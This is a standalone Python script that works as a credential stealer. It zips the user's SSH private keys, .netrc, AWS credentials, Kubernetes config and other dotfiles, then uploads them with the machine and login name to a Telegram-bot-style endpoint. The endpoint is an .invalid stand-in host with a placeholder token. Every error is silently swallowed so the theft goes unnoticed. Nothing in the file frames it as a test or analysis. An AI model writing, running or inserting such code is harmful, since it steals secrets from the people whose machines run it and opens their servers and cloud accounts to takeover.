#!/usr/bin/env python3
import io
import os
import platform
import uuid
import zipfile
import urllib.request
from pathlib import Path

BOT = "6871234567:AAF-placeholder-not-a-token"
CHAT = "-1002012345678"
HOME = Path.home()
WANTED = [".ssh/id_rsa", ".ssh/id_ed25519", ".netrc", ".aws/credentials", ".kube/config", ".gitconfig", ".vimrc"]


def pack():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for rel in WANTED:
            p = HOME / rel
            if p.is_file():
                z.writestr(rel, p.read_bytes())
    return buf.getvalue()


def multipart(fields, filename, blob):
    b = uuid.uuid4().hex
    out = b""
    for k, v in fields.items():
        out += f'--{b}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
    out += f'--{b}\r\nContent-Disposition: form-data; name="document"; filename="{filename}"\r\nContent-Type: application/zip\r\n\r\n'.encode()
    return b, out + blob + f"\r\n--{b}--\r\n".encode()


def main():
    blob = pack()
    caption = f"{platform.node()} / {os.getlogin() if hasattr(os, 'getlogin') else '?'}"
    boundary, body = multipart({"chat_id": CHAT, "caption": caption}, "dotfiles.zip", blob)
    req = urllib.request.Request(
        f"https://api.telegram-relay.invalid/bot{BOT}/sendDocument",
        data=body,
        headers={"Content-Type": f"multipart/form-data; boundary={boundary}"},
    )
    urllib.request.urlopen(req, timeout=10).read()


if __name__ == "__main__":
    try:
        main()
    except Exception:
        pass
